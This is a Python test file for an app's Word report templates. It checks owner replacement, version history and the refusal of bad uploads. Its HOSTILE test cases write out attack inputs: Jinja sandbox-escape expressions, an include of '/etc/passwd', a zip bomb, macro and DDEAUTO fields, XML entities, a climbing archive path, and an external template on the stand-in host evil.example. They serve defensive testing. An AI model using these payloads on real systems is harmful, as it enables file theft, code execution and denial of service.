"""Templates of documents: replaced by their owners; hostile and broken ones refused with the reason."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from openpyxl import Workbook

from engine.documents import templates
from engine.documents.checking import LIMIT_BYTES, check_package
from engine.documents.kinds import kind_of
from engine.documents.rendering import ROW_LIMIT, TemplateInvalid, render
from engine.documents.templates import EXAMPLE, TemplateReasonMissing, TemplateUnknown
from engine.errors import Forbidden
from tests.support.company import Company
from tests.support.documents import REPORT, issue, word_of
from tests.support.findings import raise_nonconformity


@pytest.fixture
def company(any_company: Company) -> Company:
    """Once on each store."""
    return any_company


def template_with(*paragraphs: str) -> bytes:
    """A Word file an owner might upload."""
    file, target = Document(), io.BytesIO()
    for text in paragraphs:
        file.add_paragraph(text)
    file.save(target)
    return target.getvalue()


def changed(part: str, content: bytes | Callable[[bytes], bytes], base: bytes | None = None) -> bytes:
    """A Word file with one part replaced or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or template_with("你好"))) as old, zipfile.ZipFile(target, "w") as new:
        names = [one for one in old.namelist() if one != part]
        for name in names:
            new.writestr(name, old.read(name))
        before = old.read(part) if part in old.namelist() else b""
        new.writestr(part, content(before) if callable(content) else content)
    return target.getvalue()


def bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * (60 * 1024 * 1024))
    return target.getvalue()


def spreadsheet() -> bytes:
    target = io.BytesIO()
    Workbook().save(target)
    return target.getvalue()


EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE: dict[str, Callable[[], bytes]] = {
    "the way out of the sandbox": lambda: template_with("{{ ''.__class__.__mro__ }}"),
    "the way out by an item": lambda: template_with("{{ nonconformity['__class__'] }}"),
    "the way out by a filter": lambda: template_with("{{ nonconformity|attr('title') }}"),
    "a huge range": lambda: template_with("{% for i in range(999999999) %}x{% endfor %}"),
    "a call": lambda: template_with("{{ nonconformity.title.upper() }}"),
    "a huge product": lambda: template_with("{{ 'x' * 999999999 }}"),
    "a huge power": lambda: template_with("{{ 9 ** 9 ** 9 }}"),
    "text that doubles": lambda: template_with("{% set a = 'x' %}"),
    "a macro": lambda: template_with("{% macro m() %}{% endmacro %}"),
    "another file": lambda: template_with("{% include '/etc/passwd' %}"),
    "a loop over text": lambda: template_with("{% for a in 'xxxx' %}{% endfor %}"),
    "a wide format": lambda: template_with("{{ 'x'|center(999999999) }}"),
    "nested loops": lambda: template_with("{% for a in whys %}" * 12 + "x" + "{% endfor %}" * 12),
    "an unknown figure": lambda: template_with("{{ nonconformity.weather }}"),
    "a broken tag": lambda: template_with("{% if %}"),
    "no Word file": lambda: b"PK\x03\x04 nothing",
    "an empty file": lambda: b"",
    "a spreadsheet": spreadsheet,
    "too large": lambda: b"0" * (LIMIT_BYTES + 1),
    "a bomb": bomb,
    "a macro project": lambda: changed("word/vbaProject.bin", b"x"),
    "an embedded object": lambda: changed("word/embeddings/oleObject1.docx", b"x"),
    "a template elsewhere": lambda: changed("word/_rels/settings.xml.rels", EXTERNAL),
    "an entity": lambda: changed("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "an entity in UTF-16": lambda: changed(
        "word/extra.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")
    ),
    "a path that climbs": lambda: changed("../../etc/cron.d/x", b"x"),
    "broken XML": lambda: changed("word/styles.xml", b"<w:styles"),
    "a macro type": lambda: changed(
        "[Content_Types].xml",
        lambda old: old.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "a field that runs programs": lambda: changed(
        "word/document.xml",
        lambda old: old.replace(b"<w:t>", b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText><w:t>'),
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_or_broken_template_is_refused_with_its_reason(name: str) -> None:
    content = HOSTILE[name]()
    example = {**kind_of(REPORT).example, "whys": [{"number": 1, "text": "x"}] * 5}
    with pytest.raises(TemplateInvalid) as refused:
        check_package(content)
        render(content, example, EXAMPLE)
    assert refused.value.message("zh").startswith("模板不能使用：")
    assert refused.value.message("en").startswith("The template cannot be used: ")
    assert len(refused.value.details["zh"]) > 3


def test_rows_beyond_any_report_are_refused() -> None:
    rows = template_with("{% for a in whys %}{{ a.text }}{% endfor %}")
    whys = [{"number": 1, "text": "x"}] * (ROW_LIMIT + 1)
    with pytest.raises(TemplateInvalid, match="template_invalid"):
        render(rows, {**kind_of(REPORT).example, "whys": whys}, EXAMPLE)


def test_an_owners_template_is_used_from_then_on_and_every_version_is_kept(company: Company) -> None:
    row = raise_nonconformity(company)
    before = issue(company, row.id)
    own = template_with("本公司格式：{{ nonconformity.title }}{% if document.is_draft %}草稿{% endif %}")

    def replace(login: str, content: bytes = own, reason: str = "加公司标识") -> int:
        with company.platform.database.write() as connection:
            return templates.replace(
                connection,
                actor=company.actor(login),
                kind=REPORT,
                content=content,
                reason=reason,
                now=company.clock.now(),
            )

    with pytest.raises(Forbidden):
        replace("liuyang")
    with pytest.raises(TemplateReasonMissing):
        replace("hexin", reason=" ")
    with pytest.raises(TemplateInvalid):
        replace("hexin", HOSTILE["a bomb"]())
    assert replace("hexin") == 1
    assert replace("admin", template_with("第二版：{{ nonconformity.title }}"), "改版") == 2
    after = issue(company, row.id)
    assert after != before, "a new template makes a new issue"
    assert word_of(company, after).startswith(f"第二版：{row.title}")
    assert "不符合项报告" in word_of(company, before)
    with company.platform.database.read() as connection:
        history = templates.history(connection, REPORT)
        assert [(one.version, one.is_latest, one.uploader_name) for one in history] == [
            (2, True, "林志远"),
            (1, False, "何欣"),
        ]
        assert templates.content_of(connection, REPORT, 1) == own
        assert templates.content_of(connection, REPORT, 0) == kind_of(REPORT).shipped
        with pytest.raises(TemplateUnknown):
            templates.content_of(connection, REPORT, 3)
